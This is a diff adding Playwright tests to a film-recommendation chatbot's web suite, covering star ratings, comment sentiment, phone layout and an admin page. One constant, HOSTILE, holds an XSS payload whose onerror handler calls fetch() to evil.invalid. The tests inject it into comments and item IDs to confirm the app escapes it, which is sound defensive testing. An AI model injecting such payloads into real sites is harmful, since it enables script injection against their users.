@@ -8,6 +8,7 @@ import re
 import shutil
 import threading
 from collections.abc import Iterator
+from dataclasses import replace
 from functools import partial
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
@@ -16,8 +17,11 @@ import pytest
 from conftest import GAMES_FIELDS, HashedWords
 from serving import Telling, bot_of, reader, serving
 
+from chatbot.dialogue import Event
 from chatbot.found import find_catalogue
 from chatbot.store import SQLiteStore
+from chatbot.tastes import Tastes
+from chatbot.tones import sentiment
 from retrieval.catalogue import load
 from retrieval.retriever import Retriever
 
@@ -159,6 +163,66 @@ def test_a_conversation(visitor: Visitor, base: str) -> None:
     page.wait_for_selector("#chat .user-row >> nth=1")
     page.wait_for_selector(DONE)
     assert visitor.talk()[2] == "Something else"
+
+
+@pytest.fixture(scope="module")
+def learning(films: Retriever, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """A server whose bot learns from reactions, and reads comments by their words."""
+    bot = bot_of(films, tmp_path_factory.mktemp("learnt"))
+    with serving(replace(bot, tastes=Tastes(bot.store), mood=sentiment)) as address:
+        yield address
+
+
+def test_stars_and_words_about_an_item(visitor: Visitor, learning: str) -> None:
+    page = visitor.open(learning)
+    visitor.say("something from the 90s")
+    given = ".card >> nth=0 >> .given"
+    page.locator(".card").nth(0).get_by_role("button", name="Give 3 of 5 stars").click()
+    page.wait_for_selector(f"{given} >> nth=2")
+    assert page.locator(".given").count() == 3
+    titles, title = visitor.titles(), visitor.titles()[1]
+    card = page.locator(".card").nth(1)
+    write = card.get_by_role("button", name="Say something about it…")
+    write.focus()
+    page.keyboard.press("Enter")
+    line = page.get_by_role("textbox", name=f"Say something about it…: {title}")
+    assert (page.evaluate("document.activeElement.maxLength"), write.get_attribute("aria-expanded")) == (400, "true")
+    page.keyboard.type("Nothing of this is kept")
+    page.keyboard.press("Escape")
+    assert (line.count(), write.get_attribute("aria-expanded")) == (0, "false")
+    page.keyboard.press("Enter")  # the focus went back to the button
+    assert line.input_value() == ""
+    page.keyboard.type(f"Wonderful, brilliant and very funny, I loved it! {HOSTILE}")
+    page.keyboard.press("Enter")
+    page.wait_for_selector(f"#status:has-text('“{title}”: your words were read as praise.')")
+    assert page.inner_text("#heading .changed").startswith("your words were read as praise · ")
+    assert visitor.titles()[1] == title and visitor.titles() != titles
+    assert line.count() == 0 and page.evaluate("window.hit") is None
+    page.wait_for_function("() => document.activeElement.matches('button.write')")
+    visitor.open(learning)
+    page.get_by_role("button", name="You gave 3 of 5 stars").wait_for()
+    assert page.locator(".given").count() == 3
+
+
+def test_a_line_to_write_in_goes_with_its_item(visitor: Visitor, learning: str) -> None:
+    page = visitor.open(learning)
+    visitor.say("something from the 90s")
+    page.locator(".card").nth(0).get_by_role("button", name="Give 4 of 5 stars").click()
+    page.wait_for_selector(".given")
+    page.get_by_role("button", name="Undo").click()
+    page.wait_for_selector(".given", state="detached")
+    title = visitor.titles()[1]
+    visitor.press(f"👍 Like: {title}")
+    page.locator(".card").nth(1).locator("button.write").click()
+    page.keyboard.type("Half a")
+    mine = page.locator(".card", has=page.get_by_role("heading", name=title))
+    gone = visitor.titles()[0]
+    page.locator(".card").nth(0).get_by_role("button", name="Not now").click()
+    page.wait_for_function("gone => !document.querySelector('#cards').innerText.includes(gone)", arg=gone)
+    assert mine.locator("form.write input").input_value() == "Half a"
+    mine.get_by_role("button", name="Not now").click()
+    page.wait_for_selector("form.write", state="detached")
+    assert title not in visitor.titles()
 
 
 def test_a_reload_and_a_restart_keep_the_chat(
@@ -373,6 +437,11 @@ def test_a_phone(browser: Browser, base: str) -> None:
     assert page.locator("#wishes .wish").first.is_hidden()
     page.locator("#understood button.label-wrap").click()
     assert page.locator("#wishes .wish").first.is_visible()
+    page.locator(".card button.write").first.click()
+    for part in (".card button.write", "form.write input", "form.write button"):
+        found = page.locator(part).first.bounding_box()
+        assert found is not None and found["x"] + found["width"] <= 360 and found["height"] >= 32
+    assert page.evaluate(wide) == 360
     box = page.locator("#box").bounding_box()
     assert box is not None and box["y"] + box["height"] <= 740
     visitor.leave()
@@ -445,8 +514,34 @@ def test_chinese(browser: Browser, base: str) -> None:
     assert all(re.search("[\u4e00-\u9fff]", title) for title in visitor.titles())
     english = r"(?<![A-Z])[a-z]{3,}"
     assert re.findall(english, page.inner_text("#understood")) == []
-    assert [text for text in page.locator(".act").all_inner_texts() if re.search(english, text)] == []
+    page.locator("button.write").first.click()
+    assert page.get_attribute("form.write input", "placeholder") == "说说你对它的看法……"
+    shown = page.locator(".act, .rate, form.write").all_inner_texts()
+    assert [text for text in shown if re.search(english, text)] == []
     visitor.leave()
+
+
+def test_the_owners_page_on_a_phone(browser: Browser, films: Retriever, tmp_path: Path) -> None:
+    bot = bot_of(films, tmp_path)
+    session = bot.open()
+    bot.ask("something from the 90s", session)
+    clicks = [{"item_id": f"{n}{HOSTILE}", "kind": "like"} for n in range(8)]
+    bot.store.append([Event(session.id, "reaction", body, at=100 + 0.2 * n) for n, body in enumerate(clicks)])
+    visitor = Visitor(browser, viewport={"width": 360, "height": 740}, has_touch=True, is_mobile=True)
+    with serving(bot, admin_password="a long password") as base:
+        page = visitor.page
+        page.goto(f"{base}/admin")
+        page.fill("input[type=password]", "a long password")
+        page.keyboard.press("Enter")
+        row = page.locator("#doubted tbody tr")
+        assert row.locator("td").first.inner_text() == "faster than one reads"
+        assert page.evaluate("document.documentElement.scrollWidth") == 360
+        with page.expect_download() as file:
+            page.locator("#doubted h2 a").click()
+        assert f"{session.id},hasty," in Path(file.value.path()).read_text(encoding="utf-8")
+        row.locator("a").click()
+        assert "something from the 90s" in page.inner_text(".said")
+        visitor.leave()
 
 
 HOSTILE = "<img src=x onerror=\"window.hit=1;fetch('http://evil.invalid/a')\">"
